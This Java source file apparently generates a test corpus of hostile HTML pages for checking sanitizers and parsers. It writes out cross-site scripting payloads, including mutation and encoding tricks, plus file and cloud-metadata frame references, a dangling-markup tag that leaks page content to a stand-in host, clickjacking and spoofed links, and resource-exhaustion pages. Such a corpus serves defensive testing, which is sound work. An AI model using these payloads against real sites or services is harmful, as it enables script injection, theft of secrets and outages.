package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.EMPTY;
import static org.junitsandbox.corpus.Attack.ENCODING;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.INJECTION;
import static org.junitsandbox.corpus.Attack.LONG_NAME;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;
import static org.junitsandbox.corpus.Attack.NESTING;
import static org.junitsandbox.corpus.Attack.SPOOFING;
import static org.junitsandbox.corpus.Attack.TRUNCATED;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Pages: scripts in places that filters do not know, references, and loads. */
final class HtmlFiles {

    private static final String TWIN = page("", "<p>A <b>harmless</b> text.</p>");
    private static final Family HTML = Family.of(Format.HTML, TWIN);
    private static final String REMOTE = "http://example.invalid/x";
    private static final int MANY = 10_000;

    private HtmlFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(scripts(), mutations(), references(), injections(), loads(), encodings(), ends())
                .flatMap(all -> all);
    }

    private static String page(String head, String body) {
        return "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>page</title>" + head + "</head><body>"
                + body + "</body></html>\n";
    }

    private static HostileFile of(
            Attack attack, String variant, String description, String section, String head, String body) {
        return HTML.file(attack, variant, description, section, page(head, body));
    }

    private static HostileFile script(String variant, String description, String body) {
        return of(ACTIVE_CONTENT, variant, description, "CWE-79, HTML section 8.1.4", "", body);
    }

    private static Stream<HostileFile> scripts() {
        return Stream.of(
                script("element", "The page holds a script.", "<script>alert(1)</script>"),
                script("mixed-case", "A script whose tag has large and small letters.", "<sCrIpT>alert(1)</ScRiPt >"),
                script("nested", "A script is left when a filter removes another.", nested()),
                script("event", "An attribute is a script.", "<img src=x onerror=alert(1)>"),
                script("event-slash", "An attribute follows a slash and no space.", "<img/src=\"x\"/onerror=alert(1)>"),
                script(
                        "event-toggle",
                        "An attribute that few filters know.",
                        "<details open ontoggle=alert(1)>a</details>"),
                script("link", "A link is a script.", "<a href=\"javascript:alert(1)\">a</a>"),
                script(
                        "link-encoded",
                        "A link is a script, with a tab and character references in its scheme.",
                        "<a href=\"jav&#x09;a&#115;cript&colon;alert(1)\">a</a>"),
                script("link-data", "A link holds a page with a script.", "<a href=\"data:text/html,<script>alert(1)"
                        + "</script>\">a</a>"),
                script("form", "A button's action is a script.", "<form><button formaction=\"javascript:alert(1)\">a"
                        + "</button></form>"),
                script(
                        "frame",
                        "A page with a script in a frame.",
                        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
                script("picture", "A picture in the page has a script.", "<svg><script>alert(1)</script></svg>"),
                of(
                        ACTIVE_CONTENT,
                        "refresh",
                        "The page goes on to a page with a script.",
                        "CWE-79, HTML section 4.2.5.3",
                        "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>alert(1)</script>\">",
                        "<p>a</p>"));
    }

    private static String nested() {
        return "<scr<script></script>ipt>alert(1)</scr<script></script>ipt>";
    }

    private static HostileFile mutation(String variant, String description, String reference, String body) {
        return of(ACTIVE_CONTENT, "mutation-" + variant, description, "CWE-79, " + reference, "", body);
    }

    private static Stream<HostileFile> mutations() {
        return Stream.of(
                mutation(
                        "noscript",
                        "A picture with a script is an attribute for programs without scripts only.",
                        "HTML section 4.12.2",
                        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">a</p></noscript>"),
                mutation(
                        "math",
                        "A picture with a script is a text until the page is written and read again.",
                        "CVE-2020-26870",
                        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x"
                                + " onerror=alert(1)&gt;\"></table></mtext></math>"),
                mutation(
                        "comment",
                        "A comment ends sooner for browsers than for some filters.",
                        "HTML section 13.2.5.43",
                        "<!--><img src=x onerror=alert(1)>-->"),
                mutation(
                        "text-area",
                        "A picture with a script is an attribute, unless a text area stands before it.",
                        "HTML section 13.2.5.2",
                        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"));
    }

    private static HostileFile reference(String variant, String description, String head, String body) {
        return of(EXTERNAL_REFERENCE, variant, description, "CWE-918, HTML section 2.5", head, body);
    }

    private static Stream<HostileFile> references() {
        return Stream.of(
                reference("image", "A picture is at an address in the network.", "", "<img src=\"" + REMOTE + "\">"),
                reference(
                        "script",
                        "A script is at an address in the network.",
                        "<script src=\"" + REMOTE + "\"></script>",
                        "<p>a</p>"),
                reference(
                        "style",
                        "A style imports another one from the network.",
                        "<style>@import url(\"" + REMOTE + "\");</style>",
                        "<p>a</p>"),
                reference(
                        "frame-file",
                        "A frame shows the file /etc/passwd, in a program that prints pages.",
                        "",
                        "<iframe src=\"file:///etc/passwd\"></iframe>"),
                reference(
                        "frame-metadata",
                        "A frame shows the secrets that a cloud gives to its machines.",
                        "",
                        "<iframe src=\"http://169.254.169.254/latest/meta-data/\"></iframe>"),
                reference(
                        "base",
                        "All addresses are relative to one in the network.",
                        "<base href=\"" + REMOTE + "/\">",
                        "<img src=\"a.png\">"),
                reference(
                        "refresh",
                        "The page goes on to an address in the network.",
                        "<meta http-equiv=\"refresh\" content=\"0;url=" + REMOTE + "\">",
                        "<p>a</p>"),
                reference(
                        "prefetch",
                        "Browsers are asked to look up a name in the network.",
                        "<link rel=\"dns-prefetch\" href=\"" + REMOTE + "\">",
                        "<p>a</p>"));
    }

    private static Stream<HostileFile> injections() {
        return Stream.of(
                of(
                        INJECTION,
                        "clobbering",
                        "Names of elements take the place of what scripts of the page need.",
                        "CWE-79, HTML section 7.3.3",
                        "",
                        "<form id=\"document\"><input name=\"cookie\"><input name=\"attributes\"></form>"),
                of(
                        INJECTION,
                        "dangling",
                        "An attribute is not closed, and takes what follows in the page to the network.",
                        "CWE-116, HTML section 13.2.5.36",
                        "",
                        "<img src='" + REMOTE + "?"),
                of(
                        SPOOFING,
                        "link",
                        "A link shows another address than the one it leads to.",
                        "CWE-451, HTML section 4.6",
                        "",
                        "<a href=\"" + REMOTE + "\">https://bank.example/</a>"),
                of(
                        SPOOFING,
                        "overlay",
                        "An invisible link covers the page.",
                        "CWE-1021, HTML section 7.6.1",
                        "",
                        "<a href=\"" + REMOTE + "\" style=\"position:fixed;inset:0;opacity:0\">a</a>"));
    }

    private static HostileFile load(Attack attack, String variant, String description, String body) {
        return HTML.begin(attack, variant, description, "CWE-770, HTML section 13.2")
                .expandsTo(0, MANY, attack == NESTING ? MANY : 1)
                .content(Content.of(page("", body)))
                .build();
    }

    private static Stream<HostileFile> loads() {
        String attributes =
                IntStream.range(0, MANY).mapToObj(number -> " a" + number).collect(Collectors.joining());
        return Stream.of(
                load(NESTING, "elements", "10,000 elements within each other.", "<div>".repeat(MANY)
                        + "</div>".repeat(MANY)),
                load(NESTING, "open-elements", "10,000 elements that are not closed.", "<b>".repeat(MANY)),
                load(MANY_ENTRIES, "elements", "10,000 elements.", "<br>".repeat(MANY)),
                load(MANY_ENTRIES, "attributes", "An element with 10,000 attributes.", "<p" + attributes + ">"),
                load(
                        LONG_NAME,
                        "element",
                        "The name of an element has 100,000 characters.",
                        "<" + "x".repeat(100_000)
                        + ">"));
    }

    private static Stream<HostileFile> encodings() {
        return Stream.of(
                HTML.file(
                        ENCODING,
                        "utf-7",
                        "A script in UTF-7, which the page declares.",
                        "CWE-79, RFC 2152",
                        page("", "<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>").replace("utf-8", "utf-7")),
                HTML.file(
                        ENCODING,
                        "iso-2022-jp",
                        "Escapes of ISO-2022-JP, in which a backslash is another character.",
                        "CWE-79, Encoding Standard section 12.2",
                        page("", "<p>\u001b(Ja\u001b(B</p>").replace("<meta charset=\"utf-8\">", "")),
                HTML.file(
                        ENCODING,
                        "null",
                        "The character 0 within the name of an element.",
                        "CWE-79, HTML section 13.2.5.8",
                        page("", "<scr\0ipt>alert(1)</scr\0ipt>")),
                HTML.file(
                        ENCODING,
                        "not-utf-8",
                        "A text that is declared as UTF-8 and is not.",
                        "RFC 3629 section 3",
                        Content.of(Bytes.latin1(page("", "<p>caf\u00e9 \u00c0\u00bcscript></p>")))));
    }

    private static Stream<HostileFile> ends() {
        String section = "HTML section 13.1.2";
        return Stream.of(
                HTML.file(EMPTY, "no-bytes", "The file has no bytes.", section, ""),
                cut("in-tag", "The file ends within a tag.", TWIN.indexOf("charset")),
                cut("in-text", "The file ends within a text.", TWIN.indexOf("less")),
                HTML.file(
                        TRUNCATED,
                        "in-comment",
                        "The file ends within a comment, which hides all that is put behind it.",
                        section,
                        TWIN.substring(0, TWIN.indexOf("</body>")) + "<!-- "));
    }

    private static HostileFile cut(String variant, String description, int length) {
        return HTML.file(TRUNCATED, variant, description, "HTML section 13.1.2", TWIN.substring(0, length));
    }
}
